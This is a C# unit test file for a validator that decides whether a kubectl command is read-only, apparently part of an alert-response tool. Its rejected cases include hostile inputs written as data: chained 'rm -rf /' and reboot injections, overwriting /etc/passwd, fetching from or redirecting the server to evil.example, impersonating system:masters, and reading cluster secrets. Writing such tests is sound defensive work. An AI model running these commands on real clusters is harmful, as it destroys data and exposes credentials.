using AlertResponder.Analysis.Check;

namespace AlertResponder.Tests.Unit.Analysis;

public sealed class KubectlCommandTests
{
    [Theory]
    [InlineData("kubectl get pods -n cardboard")]
    [InlineData("kubectl -n cardboard get pods -o wide")]
    [InlineData("kubectl describe pod api-1 --namespace=cardboard")]
    [InlineData("kubectl logs api-1 -c api --previous --tail=50")]
    [InlineData("kubectl logs -f deployment/api -n cardboard")]
    [InlineData("kubectl top pod -n cardboard --containers")]
    [InlineData("kubectl rollout history deployment/api")]
    [InlineData("kubectl rollout status deployment/api -w")]
    [InlineData("kubectl get events --field-selector involvedObject.name=api-1 --sort-by .lastTimestamp")]
    [InlineData("kubectl events -n cardboard --types=Warning")]
    [InlineData("kubectl auth can-i get pods")]
    [InlineData("kubectl get pods -n secrets-operator")]
    public void IsReadOnly_ReadingCommand_IsShown(string command) => KubectlCommand.IsReadOnly(command).ShouldBeTrue();

    [Theory]
    [InlineData("kubectl delete pod api-1")]
    [InlineData("kubectl rollout undo deployment/api")]
    [InlineData("kubectl rollout restart deployment/api")]
    [InlineData("kubectl exec api-1 -- sh")]
    [InlineData("kubectl -n get delete pod api-1")]
    [InlineData("kubectl -v get delete pods")]
    [InlineData("kubectl --namespace delete pods")]
    [InlineData("kubectl get pods; rm -rf /")]
    [InlineData("kubectl get pods | sh")]
    [InlineData("kubectl get pods && reboot")]
    [InlineData("kubectl get pods $(reboot)")]
    [InlineData("kubectl get pods `reboot`")]
    [InlineData("kubectl get pods > /etc/passwd")]
    [InlineData("kubectl get pods\nreboot")]
    [InlineData("kubectl  get pods")]
    [InlineData("kubectl get pods -o jsonpath={.items}")]
    [InlineData("kubectl get pods -o go-template-file=/tmp/x")]
    [InlineData("kubectl get -f https://evil.example/x.yaml")]
    [InlineData("kubectl get --raw /api/v1/secrets")]
    [InlineData("kubectl get pods --kubeconfig /tmp/x")]
    [InlineData("kubectl get pods --server=https://evil.example")]
    [InlineData("kubectl get pods --as system:masters")]
    [InlineData("kubectl get secret db -o yaml")]
    [InlineData("kubectl get pods,secrets -A")]
    [InlineData("kubectl get Secrets.v1. -A")]
    [InlineData("kubectl describe secret/db")]
    [InlineData("kubectl get")]
    [InlineData("kubectl")]
    [InlineData("k get pods")]
    [InlineData("sudo kubectl get pods")]
    [InlineData("")]
    public void IsReadOnly_AnythingElse_IsNot(string command) => KubectlCommand.IsReadOnly(command).ShouldBeFalse();

    [Fact]
    public void IsReadOnly_EndlessCommand_IsNot() => KubectlCommand.IsReadOnly("kubectl get " + new string('a', 300)).ShouldBeFalse();
}
